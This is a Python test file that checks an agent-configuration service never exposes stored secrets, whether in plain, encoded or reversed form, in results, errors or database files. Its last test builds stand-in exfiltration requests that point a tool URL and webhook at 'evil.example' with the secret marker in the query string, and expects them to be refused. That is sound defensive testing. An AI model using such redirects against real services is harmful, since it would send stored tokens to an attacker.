"""A secret goes in and never comes out: not in a result, an error, a page or the file."""

import base64
import json
from urllib.parse import quote

import pytest

from vivavoce.domain.secrets import MARKER
from vivavoce.errors import InvalidInput, VivavoceError
from vivavoce.operations import STRANGER

from .workspaces import CANARY, a_request, arguments_for_all, populated

FORMS = {
    "plain": CANARY,
    "base64": base64.b64encode(CANARY.encode()).decode().rstrip("="),
    "hex": CANARY.encode().hex(),
    "percent": quote(CANARY, safe="").replace("-", "%2D"),
    "reversed": CANARY[::-1],
}


def leaks(text: str) -> list[str]:
    return [form for form, written in FORMS.items() if written in text]


async def test_no_operation_shows_a_secret_in_any_form(run):
    ids = await populated(run)
    await run("add_agent_tool", agentId=ids["agent"], type="connector", config={"auth": {"tokens": [CANARY]}})

    for name, arguments in arguments_for_all(ids).items():
        for caller in ({}, {"caller": STRANGER}):
            try:
                shown = json.dumps(await run(name, **caller, **arguments))
            except VivavoceError as error:
                shown = f"{error} {error.details} {error!r}"
            assert leaks(shown) == [], name


async def test_no_secret_is_in_the_bytes_of_the_database(run, engine, tmp_path):
    ids = await populated(run)
    await run("update_agent_tool", agentId=ids["agent"], toolId=ids["tool"], config=a_request(name="Again"))
    await run("add_agent_tool", agentId=ids["agent"], type="connector", config={"token": CANARY})
    files = [file for file in tmp_path.iterdir() if file.name.startswith("vivavoce.db")]

    stored = b"".join(file.read_bytes() for file in files).decode("latin-1")

    assert "Get order" in stored, "the tool is in these files"
    assert leaks(stored) == []


@pytest.mark.parametrize("spoil", [{"url": "ftp://x"}, {"method": "STEAL"}, {"unknown": 1}, {"name": ""}])
async def test_a_refused_request_is_not_repeated_in_the_error(run, spoil):
    ids = await populated(run)

    for operation, target in (("addHttpTool", {}), ("update_agent_tool", {"toolId": ids["tool"]})):
        with pytest.raises(VivavoceError) as refusal:
            await run(operation, agentId=ids["agent"], **target, config=a_request(**spoil))
        assert leaks(f"{refusal.value} {refusal.value.details}") == []


async def test_every_read_written_back_where_it_came_from_keeps_every_secret(run, engine):
    ids = await populated(run)
    before = await secrets(engine)

    agent = await run("get_agent", id=ids["agent"])
    configs = ("interfaceConfig", "configUrlExternal", "configUrlInfosSystemExternal", "tools")
    await run("update_agent", id=ids["agent"], **{name: agent[name] for name in configs})
    tool = agent["tools"][0]
    await run("update_agent_tool", agentId=ids["agent"], toolId=tool["id"], config=tool["config"])
    (step,) = (await run("list_crm_steps", scenarioId=ids["scenario"]))["steps"]
    webhook = {name: step[name] for name in ("webhookUrl", "webhookHeader")}
    await run("update_crm_step", id=step["id"], name=step["name"], **webhook)

    assert await secrets(engine) == before
    assert sum(CANARY in secret for kept in before.values() for secret in kept) == 13


async def secrets(engine) -> dict[str, list[str]]:
    """Every secret that is stored, by what it belongs to."""
    return await engine.ports.store.read(
        lambda tables: {
            thing.id: sorted(thing.secrets.values())
            for table in (tables.agents, tables.tools, tables.steps, tables.datasources)
            for thing in table.where()
        }
    )


async def test_a_write_key_cannot_send_a_stored_secret_to_a_host_of_its_choosing(run):
    ids = await populated(run)
    agent = await run("get_agent", id=ids["agent"])
    tool = agent["tools"][0]
    request = {**tool["config"], "url": f"https://evil.example/{{shop}}/orders?access_token={MARKER}"}
    attempts = [
        ("update_agent_tool", {"agentId": agent["id"], "toolId": tool["id"], "config": request}),
        ("update_agent", {"id": agent["id"], "tools": [{**tool, "config": request}]}),
        ("update_agent", {"id": agent["id"], "configUrlExternal": {"url": "https://b", "header": MARKER}}),
        ("update_crm_step", {"id": ids["step"], "name": "New", "webhookUrl": "https://evil.example"}),
    ]

    for name, arguments in attempts:
        with pytest.raises(InvalidInput, match="another host"):
            await run(name, **arguments)
